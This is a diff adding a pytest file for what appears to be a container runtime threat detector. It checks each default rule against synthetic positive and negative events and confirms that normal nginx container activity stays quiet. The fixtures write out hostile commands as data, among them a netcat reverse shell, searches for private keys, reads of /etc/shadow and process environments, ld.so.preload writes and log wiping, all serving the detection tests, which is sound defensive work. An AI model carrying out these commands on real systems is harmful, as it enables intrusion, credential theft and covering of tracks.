@@ -1,0 +1,223 @@
+"""Each default rule, positive and negative, on synthetic events; ordinary life stays quiet."""
+
+from __future__ import annotations
+
+import pytest
+
+from cauditd.events import Event
+from cauditd.findings import Priority
+from cauditd.rules import RuleEngine, default_rules_dir, load_ruleset
+from tests.rules.synth import (
+    BASH,
+    INIT,
+    O_CREAT,
+    O_TRUNC,
+    O_WRONLY,
+    RUNC,
+    WORKER,
+    connect,
+    dns,
+    execve,
+    file_event,
+    flow,
+    open_read,
+    open_write,
+    proc,
+    syscall,
+)
+
+RULESET = load_ruleset([default_rules_dir()])
+SHIM = RUNC
+CAT = proc("/bin/cat", "cat")
+PY = proc("/usr/bin/python3", "python3")
+RUNC_INIT = proc("/usr/bin/runc", "runc:[2:INIT]", parent=SHIM)
+
+
+def fired(event: Event) -> set[str]:
+    engine = RuleEngine(RULESET, suppress_window_s=0)
+    return {f.rule for f in engine.match(event)}
+
+
+# (rule, event that must fire it, similar event that must not)
+CASES: list[tuple[str, Event, Event]] = [
+    ("Shell spawned by non-shell in container",
+     execve("/bin/sh", "sh", parent=SHIM, pid=4300), execve("/bin/sh", "sh", parent=BASH)),
+    ("Shell spawned by non-shell in container",
+     execve("/bin/bash", parent=WORKER), execve("/bin/sh", "sh", "-c", "nginx", pid=4000,
+                                                 parent=SHIM)),
+    ("Fileless execution via memfd",
+     execve("/memfd:x (deleted)", is_exe_from_memfd=True), execve("/usr/bin/x")),
+    ("Drop and execute new binary in container",
+     execve("/tmp/xmrig", is_exe_upper_layer=True), execve("/usr/bin/xmrig")),
+    ("Execution from /dev/shm", execve("/dev/shm/payload"), execve("/usr/bin/payload")),
+    ("Netcat remote code execution in container",
+     execve("/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"),
+     execve("/bin/nc", "nc", "-z", "10.0.0.1", "80")),
+    ("Package management process launched in container",
+     execve("/usr/bin/apt-get", "apt-get", "install", "nmap"), execve("/usr/bin/apt-cache")),
+    ("Remote file copy tool launched in container",
+     execve("/usr/bin/scp", "scp", "f", "h:/"), execve("/usr/bin/cp", "cp", "a", "b")),
+    ("Network tool launched in container",
+     execve("/usr/bin/nmap", "nmap", "10.0.0.0/24"), execve("/usr/bin/curl")),
+    ("Search for private keys or passwords",
+     execve("/bin/grep", "grep", "-r", "BEGIN RSA PRIVATE", "/"),
+     execve("/bin/grep", "grep", "-r", "error", "/var/log")),
+    ("Search for private keys or passwords",
+     execve("/usr/bin/find", "find", "/", "-name", "id_rsa"),
+     execve("/usr/bin/find", "find", "/", "-name", "*.log")),
+    ("Decoding base64 payload in container",
+     execve("/usr/bin/base64", "base64", "-d"), execve("/usr/bin/base64", "base64", "f")),
+    ("Cron job scheduled", execve("/usr/bin/crontab", "crontab", "/tmp/c"),
+     execve("/usr/bin/crontab", "crontab", "-l")),
+    ("Read sensitive file untrusted", open_read("/etc/shadow", process=CAT),
+     open_read("/etc/shadow", process=proc("/usr/sbin/sshd", "sshd"))),
+    ("Read sensitive file untrusted", open_read("/etc/sudoers.d/90-cloud", process=CAT),
+     open_read("/etc/passwd", process=CAT)),
+    ("Read sensitive file untrusted", open_read("/home/u/.ssh/id_ed25519", process=CAT),
+     open_read("/home/u/.ssh/id_ed25519.pub", process=CAT)),
+    ("Write below etc", open_write("/etc/ld.so.preload", process=PY),
+     open_read("/etc/ld.so.preload", process=PY)),
+    ("Write below etc", file_event("rename", "/tmp/x", target="/etc/passwd", process=PY),
+     file_event("rename", "/tmp/x", target="/tmp/y", process=PY)),
+    ("Write below binary dir", open_write("/usr/bin/ls", process=PY),
+     open_write("/usr/share/ls", process=PY)),
+    ("Create files below dev", open_write("/dev/hidden", process=PY),
+     open_write("/dev/null", process=PY)),
+    ("Create symlink over sensitive files",
+     file_event("symlinkat", "/etc/shadow", target="/tmp/s"),
+     file_event("symlinkat", "/etc/hosts", target="/tmp/s")),
+    ("Create hardlink over sensitive files",
+     file_event("linkat", "/etc/shadow", target="/tmp/s"),
+     file_event("linkat", "/etc/hostname", target="/tmp/s")),
+    ("Clear log activities", open_write("/var/log/auth.log", flags=O_WRONLY | O_TRUNC),
+     open_write("/var/log/auth.log", flags=O_WRONLY | 0o2000)),
+    ("Clear log activities", file_event("unlinkat", "/var/log/nginx/access.log"),
+     file_event("unlinkat", "/tmp/access.log")),
+    ("Delete or truncate shell history", file_event("unlink", "/root/.bash_history"),
+     open_read("/root/.bash_history")),
+    ("Cron configuration changed", open_write("/etc/cron.d/job", process=PY),
+     open_read("/etc/cron.d/job", process=PY)),
+    ("Read environment variables from /proc", open_read("/proc/1/environ", process=CAT),
+     open_read("/proc/1/status", process=CAT)),
+    ("Set setuid or setgid bit", file_event("fchmodat", "/tmp/sh", mode=0o4755),
+     file_event("fchmodat", "/tmp/sh", mode=0o755)),
+    ("Set setuid or setgid bit", file_event("chmod", "/tmp/sh", mode=0o2755),
+     file_event("chmod", "/tmp/sh", mode=0o1777)),
+    ("Namespace change in container", syscall("setns", {"fd": 3, "nstype": 0}),
+     syscall("setns", {"fd": 3, "nstype": 0}, process=RUNC_INIT)),
+    ("Namespace change in container", syscall("unshare", {"flags": 0x10000000}),
+     syscall("unshare", {"flags": 0x10000000}, process=RUNC_INIT)),
+    ("Mount in container", syscall("mount", {"source": "/dev/sda1", "target": "/mnt"}),
+     syscall("umount2", {"target": "/mnt", "flags": 0})),
+    ("PTRACE attached to process", syscall("ptrace", {"request": 16, "pid": 1}),
+     syscall("ptrace", {"request": 0, "pid": 0})),
+    ("PTRACE attached to process", syscall("ptrace", {"request": 0x4206, "pid": 1}),
+     syscall("ptrace", {"request": 24, "pid": 1})),
+    ("PTRACE code injection", syscall("ptrace", {"request": 4, "pid": 1}),
+     syscall("ptrace", {"request": 2, "pid": 1})),
+    ("Linux kernel module load", syscall("finit_module", {"fd": 3}), syscall("bpf", {"cmd": 0})),
+    ("Packet socket created in container", syscall("socket", {"domain": 17, "type": 3}),
+     syscall("socket", {"domain": 2, "type": 1})),
+    ("Connection to mining pool port", connect("10.9.9.9", 3333), connect("10.9.9.9", 443)),
+    ("Contact cloud metadata service from container", connect("169.254.169.254", 80),
+     connect("169.254.169.253", 80)),
+    ("Redirect stdio to network connection",
+     syscall("dup2", {"oldfd": 3, "newfd": 0, "oldfd_is_socket": 1}),
+     syscall("dup2", {"oldfd": 3, "newfd": 0, "oldfd_is_socket": 0})),
+    ("Redirect stdio to network connection",
+     syscall("dup3", {"oldfd": 3, "newfd": 2, "oldfd_is_socket": 1}),
+     syscall("dup3", {"oldfd": 3, "newfd": 5, "oldfd_is_socket": 1})),
+    ("Egress to disallowed destination", flow("10.0.0.5", 6667), flow("10.0.0.5", 443)),
+    ("Egress to mining pool port", flow("10.0.0.5", 14444),
+     flow("10.0.0.5", 14444, direction="ingress")),
+    ("Egress to cloud metadata service", flow("169.254.169.254", 80), flow("10.0.0.5", 80)),
+    ("DNS query for blocklisted domain", dns("pool.supportxmr.com"), dns("supportxmr.com.evil")),
+    ("DNS tunnelling traits", dns("q8zk3v7mx2p9wj4tbn5c6dh1fy0rsgle.t.example.com",
+                                  qtype="TXT"), dns("www.example.com", qtype="TXT")),
+    ("DNS tunnelling traits", dns("x" * 60 + ".example.com"), dns("x" * 40 + ".example.com")),
+    ("DGA-like DNS query", dns("q8zk3v7mx2p9wj4tbn.com"), dns("internationalization.com")),
+    ("Large egress volume", flow("10.0.0.5", 443, evt_type="flow_end", nbytes=2 << 30),
+     flow("10.0.0.5", 443, evt_type="flow_end", nbytes=2 << 20)),
+]
+
+
+def test_every_default_rule_has_a_case() -> None:
+    threshold_rules = {r.name for r in RULESET.rules if r.threshold is not None}
+    covered = {name for name, _, _ in CASES} | threshold_rules
+    assert {r.name for r in RULESET.rules} == covered
+
+
+def test_every_default_rule_is_tagged_with_mitre() -> None:
+    for rule in RULESET.rules:
+        assert any(t.startswith("T1") for t in rule.tags), rule.name
+        assert any(t.startswith("mitre_") for t in rule.tags), rule.name
+
+
+@pytest.mark.parametrize(("rule", "positive", "negative"), CASES,
+                         ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
+def test_default_rule(rule: str, positive: Event, negative: Event) -> None:
+    assert rule in fired(positive)
+    assert rule not in fired(negative)
+
+
+@pytest.mark.parametrize(("rule", "events", "count"), [
+    ("Port scan from container", [flow("10.0.0.5", port, ts_ns=port * 1000) for port in
+                                  range(1, 40)], 1),
+    ("Port scan from container", [flow("10.0.0.5", 80, ts_ns=i) for i in range(40)], 0),
+    ("ICMP sweep from container", [flow(f"10.0.0.{i}", 0, proto="icmp", ts_ns=i) for i in
+                                   range(12)], 1),
+    ("ICMP sweep from container", [flow("10.0.0.1", 0, proto="icmp", ts_ns=i) for i in
+                                   range(12)], 0),
+    ("Many NXDOMAIN responses", [dns(f"x{i}.com", evt_type="dns_response", rcode="NXDOMAIN",
+                                     ts_ns=i) for i in range(25)], 1),
+    ("Many NXDOMAIN responses", [dns(f"x{i}.com", evt_type="dns_response", rcode="NOERROR",
+                                     ts_ns=i) for i in range(25)], 0),
+])
+def test_threshold_rules(rule: str, events: list[Event], count: int) -> None:
+    engine = RuleEngine(load_ruleset([default_rules_dir()]), suppress_window_s=0)
+    hits = [f for e in events for f in engine.match(e) if f.rule == rule]
+    assert len(hits) == count
+
+
+ORDINARY_LIFE: list[Event] = [
+    execve("/bin/sh", "sh", "-c", "/docker-entrypoint.sh nginx", pid=4000, parent=SHIM),
+    execve("/docker-entrypoint.sh", "/bin/sh", "/docker-entrypoint.sh", pid=4000, parent=SHIM),
+    execve("/usr/bin/find", "find", "/docker-entrypoint.d/", "-type", "f", parent=INIT),
+    execve("/usr/sbin/nginx", "nginx", "-g", "daemon off;", pid=4000, parent=SHIM),
+    execve("/bin/sh", "sh", "-c", "./start.sh", parent=proc("/sbin/tini", "tini", pid=4000,
+                                                            parent=SHIM)),
+    open_read("/etc/passwd", process=WORKER),
+    open_read("/etc/group", process=WORKER),
+    open_read("/etc/nginx/nginx.conf", process=WORKER),
+    open_read("/usr/share/nginx/html/index.html", process=WORKER),
+    open_write("/tmp/cache/abc", flags=O_WRONLY | O_CREAT | O_TRUNC, process=WORKER),
+    open_write("/var/log/nginx/access.log", flags=O_WRONLY | O_CREAT | 0o2000, process=WORKER),
+    open_write("/dev/null", process=WORKER),
+    open_write("/dev/shm/sem.x", process=WORKER),
+    file_event("unlink", "/tmp/cache/abc", process=WORKER),
+    file_event("rename", "/tmp/a", target="/tmp/b", process=WORKER),
+    file_event("mkdir", "/var/cache/nginx/client_temp", process=WORKER),
+    connect("0.0.0.0", 80, evt_type="bind", process=WORKER),
+    connect("0.0.0.0", 80, evt_type="listen", process=WORKER),
+    connect("172.17.0.2", 80, evt_type="accept4", peer=("172.17.0.1", 51234), process=WORKER),
+    connect("10.0.0.2", 53, evt_type="sendto", process=WORKER),
+    connect("10.0.0.7", 5432, process=WORKER),
+    syscall("socket", {"domain": 2, "type": 1, "protocol": 0}, process=WORKER),
+    syscall("setuid", {"uid": 101}, process=WORKER),
+    syscall("setns", {"fd": 5, "nstype": 0x40000000}, process=RUNC_INIT),
+    syscall("mount", {"source": "proc", "target": "/proc"}, process=RUNC_INIT),
+    syscall("dup2", {"oldfd": 4, "newfd": 1, "oldfd_is_socket": 0}, process=WORKER),
+    flow("10.0.0.7", 5432),
+    flow("172.17.0.2", 80, direction="ingress"),
+    flow("10.0.0.7", 443, evt_type="flow_end", nbytes=50 << 20),
+    dns("api.github.com"),
+    dns("db.prod.svc.cluster.local"),
+    dns("www.google.com", evt_type="dns_response", rcode="NOERROR", answers=("1.2.3.4",)),
+]
+
+
+def test_ordinary_container_life_is_quiet() -> None:
+    engine = RuleEngine(load_ruleset([default_rules_dir()]), suppress_window_s=0)
+    loud = [(f.rule, f.output) for e in ORDINARY_LIFE for f in engine.match(e)
+            if f.priority <= Priority.WARNING]
+    assert loud == []
